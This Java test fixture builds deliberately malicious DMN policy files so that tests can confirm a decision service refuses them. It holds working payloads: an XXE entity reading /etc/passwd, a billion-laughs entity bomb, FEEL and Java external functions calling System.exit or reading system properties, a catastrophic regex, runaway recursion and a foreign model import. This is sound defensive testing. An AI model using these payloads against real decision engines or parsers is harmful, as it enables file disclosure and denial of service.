package com.shopcare.complaints.engine;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Policy files that must be refused, each made from a shipped model by one small edit, so that the malicious part
 * (or the defect) is the only difference and the fixture follows the shipped model as it changes. Every edit replaces
 * an anchor that must occur exactly once: should a change of the shipped model move or remove an anchor, the fixture
 * fails loudly instead of silently no longer being malicious.
 */
final class EditedTables {

    private static final String XML_DECLARATION = "<?xml version=\"1.0\" encoding=\"UTF-8\" ?>\n";

    private EditedTables() {
    }

    /** A shipped model edited: the file it takes the place of and its text. */
    record EditedTable(String fileName, String text) {

        byte[] bytes() {
            return text.getBytes(StandardCharsets.UTF_8);
        }

        /** The shipped policy with this file in the place of the shipped one. */
        PolicyFiles inShippedPolicy() {
            return PolicyFiles.shipped().with(fileName, bytes());
        }

        /** The line (from 1) of the one occurrence of the marker: where a refusal must point. */
        int lineOf(String marker) {
            assertThat(occurrences(text, Pattern.compile(Pattern.quote(marker)))).as("occurrences of %s in the edited %s",
                    marker, fileName).hasSize(1);
            return (int) text.substring(0, text.indexOf(marker)).chars().filter(c -> c == '\n').count() + 1;
        }

        @Override
        public String toString() {
            return "edited " + fileName;
        }
    }

    /** Compensation's last decision evaluates a FEEL external function calling System.exit before its own result. */
    static EditedTable feelExternalFunctionCallingSystemExit() {
        return edit("Compensation.dmn", text -> inContext(text, "_Compensation_le_186", """
                <!-- Malicious: a FEEL external function calling System.exit; one evaluation would stop the service. -->
                <context id="_Compensation_ctx_900">
                  <contextEntry>
                    <variable id="_Compensation_var_901" name="exit"/>
                    <literalExpression id="_Compensation_le_902">
                      <text>function(code) external {java: {class: "java.lang.System", method signature: "exit(int)"}}</text>
                    </literalExpression>
                  </contextEntry>
                  <contextEntry>
                    <variable id="_Compensation_var_903" name="stopped"/>
                    <literalExpression id="_Compensation_le_904">
                      <text>exit(0)</text>
                    </literalExpression>
                  </contextEntry>
                """));
    }

    /** The same call to System.exit as a boxed function definition of kind Java, as a DMN editor saves it. */
    static EditedTable javaFunctionCallingSystemExit() {
        return edit("Compensation.dmn", text -> inContext(text, "_Compensation_le_186", """
                <!-- Malicious: the same call as a boxed function definition of kind Java, as a DMN editor saves it. -->
                <context id="_Compensation_ctx_900">
                  <contextEntry>
                    <variable id="_Compensation_var_901" name="exit"/>
                    <functionDefinition id="_Compensation_fd_902" kind="Java">
                      <formalParameter id="_Compensation_var_903" name="code" typeRef="number"/>
                      <context id="_Compensation_ctx_904">
                        <contextEntry>
                          <variable id="_Compensation_var_905" name="class"/>
                          <literalExpression id="_Compensation_le_906">
                            <text>"java.lang.System"</text>
                          </literalExpression>
                        </contextEntry>
                        <contextEntry>
                          <variable id="_Compensation_var_907" name="method signature"/>
                          <literalExpression id="_Compensation_le_908">
                            <text>"exit(int)"</text>
                          </literalExpression>
                        </contextEntry>
                      </context>
                    </functionDefinition>
                  </contextEntry>
                  <contextEntry>
                    <variable id="_Compensation_var_909" name="stopped"/>
                    <literalExpression id="_Compensation_le_910">
                      <text>exit(0)</text>
                    </literalExpression>
                  </contextEntry>
                """));
    }

    /** Actions' last decision reads a system property (the home folder; it could be a secret) through FEEL. */
    static EditedTable feelExternalFunctionReadingASystemProperty() {
        return edit("Actions.dmn", text -> inContext(text, "_Actions_le_186", """
                <!-- Malicious: reads a system property (here the home folder; it could be a secret) through FEEL. -->
                <context id="_Actions_ctx_900">
                  <contextEntry>
                    <variable id="_Actions_var_901" name="property"/>
                    <literalExpression id="_Actions_le_902">
                      <text>function(name) external {
                        java: {class: "java.lang.System", method signature: "getProperty(java.lang.String)"}
                      }</text>
                    </literalExpression>
                  </contextEntry>
                  <contextEntry>
                    <variable id="_Actions_var_903" name="home"/>
                    <literalExpression id="_Actions_le_904">
                      <text>property("user.home")</text>
                    </literalExpression>
                  </contextEntry>
                """));
    }

    /** The same read through a business knowledge model of kind Java, which Actions' last decision requires. */
    static EditedTable javaBusinessKnowledgeModelReadingASystemProperty() {
        return edit("Actions.dmn", text -> inContext(insertBefore(text, "  <decision id=\"_Actions_decision_185\"",
                JAVA_PROPERTY_MODEL), "_Actions_le_186", """
                <knowledgeRequirement id="_Actions_kr_909">
                  <requiredKnowledge href="#_Actions_bkm_900"/>
                </knowledgeRequirement>
                <context id="_Actions_ctx_900">
                  <contextEntry>
                    <variable id="_Actions_var_910" name="home"/>
                    <literalExpression id="_Actions_le_911">
                      <text>property("user.home")</text>
                    </literalExpression>
                  </contextEntry>
                """));
    }

    /** A business knowledge model of kind Java calling System.getProperty, to put between Actions' decisions. */
    private static final String JAVA_PROPERTY_MODEL = """
                <!-- Malicious: reads a system property through a business knowledge model of kind Java. -->
                <businessKnowledgeModel id="_Actions_bkm_900" name="property">
                  <variable id="_Actions_var_901" name="property"/>
                  <encapsulatedLogic id="_Actions_fd_902" kind="Java">
                    <formalParameter id="_Actions_var_903" name="name" typeRef="string"/>
                    <context id="_Actions_ctx_904">
                      <contextEntry>
                        <variable id="_Actions_var_905" name="class"/>
                        <literalExpression id="_Actions_le_906">
                          <text>"java.lang.System"</text>
                        </literalExpression>
                      </contextEntry>
                      <contextEntry>
                        <variable id="_Actions_var_907" name="method signature"/>
                        <literalExpression id="_Actions_le_908">
                          <text>"getProperty(java.lang.String)"</text>
                        </literalExpression>
                      </contextEntry>
                    </context>
                  </encapsulatedLogic>
                </businessKnowledgeModel>
                """.indent(2);

    /**
     * Dissatisfaction's first row gives its points only after building a list of a hundred million numbers, and only
     * for a delay no complaint has: a check's sample never meets it, one shop request would fill the heap.
     */
    static EditedTable hugeListBehindARareCondition() {
        return dissatisfactionFirstRowPoints("if Delay Days > 100000 then count(for i in 1..100000000 return i) else 35");
    }

    /** Dissatisfaction's first row matches the delay against a pattern whose matching time grows exponentially. */
    static EditedTable catastrophicPattern() {
        return dissatisfactionFirstRowPoints("if matches(string(Delay Days), \"^([0-9]+)+x$\") then 0 else 35");
    }

    /** Dissatisfaction's first row calls a function that calls itself twice per call: 2^60 calls. */
    static EditedTable selfCallingFunction() {
        return dissatisfactionFirstRowPoints(
                "{twice: function(n) if n = 0 then 1 else twice(n - 1) + twice(n - 1), points: twice(60)}.points");
    }

    /** Dissatisfaction's first row with two iterations of 100 values each, nested: 10,000 evaluations. */
    static EditedTable nestedIterations() {
        return dissatisfactionFirstRowPoints("count(for a in 1..100, b in 1..100 return a) - 9965");
    }

    private static EditedTable dissatisfactionFirstRowPoints(String feel) {
        return edit("Dissatisfaction.dmn", text -> replaceOnce(text, """
                <outputEntry id="_Dissatisfaction_o_30">
                          <text>35</text>""", """
                <outputEntry id="_Dissatisfaction_o_30">
                          <text>%s</text>""".formatted(feel.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))));
    }

    /** Remedies' description uses an entity {@code &passwd;} it does not declare. */
    static EditedTable remediesUsingAnUndeclaredEntity() {
        return edit("Remedies.dmn", EditedTables::usePasswdEntity);
    }

    /** Remedies with an external entity: a parser that expands it puts the server's /etc/passwd into the model. */
    static EditedTable externalEntityReadingEtcPasswd() {
        return edit("Remedies.dmn", text -> insertAfter(usePasswdEntity(text), XML_DECLARATION, """
                <!-- Malicious: an external entity; a parser that expands it puts the server's /etc/passwd into the model. -->
                <!DOCTYPE definitions [ <!ENTITY passwd SYSTEM "file:///etc/passwd"> ]>
                """));
    }

    /** Dissatisfaction with nested entities expanding to a billion copies of "lol": gigabytes of memory from 1 KB. */
    static EditedTable billionLaughs() {
        return edit("Dissatisfaction.dmn", text -> insertAfter(
                replaceOnce(text, "a score of 0-100 and a level.</description>",
                        "a score of 0-100 and a level. &lol9;</description>"),
                XML_DECLARATION, """
                <!-- Malicious: nested entities expanding to a billion copies of "lol", gigabytes of memory from 1 KB. -->
                <!DOCTYPE definitions [
                  <!ENTITY lol "lol">
                  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
                  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
                  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
                  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
                  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
                  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
                  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
                  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
                  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
                ]>
                """));
    }

    /** Escalation importing a model from outside the policy: whatever that location serves would join the policy. */
    static EditedTable foreignImport() {
        return edit("Escalation.dmn", text -> insertBefore(text, "  <itemDefinition id=\"_Escalation_type_1\"", """
                <!-- Malicious: an import from outside the policy; whatever that location serves would join the policy. -->
                <import namespace="https://elsewhere.example/dmn/Tools" name="tools" locationURI="https://elsewhere.example/tools.dmn" importType="https://www.omg.org/spec/DMN/20230324/MODEL/"/>
                """.indent(2)));
    }

    /**
     * Dissatisfaction with the MEDIUM row closed at 50 ({@code [25..50]}), so that it overlaps the HIGH row
     * {@code [50..75)} at a score of exactly 50 in a UNIQUE table: not malicious, a defect the analysis must find.
     */
    static EditedTable overlappingDissatisfactionLevels() {
        return edit("Dissatisfaction.dmn", text -> insertAfter(
                replaceOnce(replaceOnce(text, "<text>[25..50)</text>", "<text>[25..50]</text>"),
                        "A score of 25 to 49 is MEDIUM", "A score of 25 to 50 is MEDIUM"),
                XML_DECLARATION, """
                <!-- A deliberately broken copy of policy/Dissatisfaction.dmn, for DecisionTableAnalysisTest: the MEDIUM row
                     [25..50] overlaps the HIGH row [50..75) at a score of exactly 50, in a UNIQUE table. -->
                """));
    }

    private static String usePasswdEntity(String remedies) {
        return replaceOnce(remedies, "and the return window.</description>", "and the return window. &passwd;</description>");
    }

    private static EditedTable edit(String fileName, UnaryOperator<String> edit) {
        byte[] shipped = PolicyFiles.shipped().files().get(fileName);
        assertThat(shipped).as("shipped %s", fileName).isNotNull();
        return new EditedTable(fileName, edit.apply(new String(shipped, StandardCharsets.UTF_8)));
    }

    /**
     * Makes the literal expression with the given id (the body of a decision) the last entry of a context that
     * {@code opening} starts, with the entries before it: the decision returns what it did, after evaluating them.
     * {@code opening} is indented as if the decision's body started at column 0.
     */
    private static String inContext(String text, String literalId, String opening) {
        Pattern literal = Pattern.compile(
                "(?ms)^( *)(<literalExpression id=\"" + Pattern.quote(literalId) + "\">.*?</literalExpression>\n)");
        return replaceOnce(text, literal, found -> {
            String indent = found.group(1);
            String expression = found.group(2).replaceAll("(?m)^" + indent, "");
            return (opening + "  <contextEntry>\n" + expression.indent(4) + "  </contextEntry>\n</context>\n")
                    .indent(indent.length());
        });
    }

    private static String insertBefore(String text, String anchor, String inserted) {
        return replaceOnce(text, anchor, inserted + anchor);
    }

    private static String insertAfter(String text, String anchor, String inserted) {
        return replaceOnce(text, anchor, anchor + inserted);
    }

    private static String replaceOnce(String text, String anchor, String replacement) {
        return replaceOnce(text, Pattern.compile(Pattern.quote(anchor)), found -> replacement);
    }

    /** The text with the one match of the anchor replaced; an assertion fails unless it matches exactly once. */
    private static String replaceOnce(String text, Pattern anchor, Function<MatchResult, String> replacement) {
        List<MatchResult> found = occurrences(text, anchor);
        assertThat(found).as("occurrences of %s in the shipped file", anchor.pattern()).hasSize(1);
        MatchResult match = found.get(0);
        return text.substring(0, match.start()) + replacement.apply(match) + text.substring(match.end());
    }

    private static List<MatchResult> occurrences(String text, Pattern pattern) {
        return pattern.matcher(text).results().toList();
    }
}
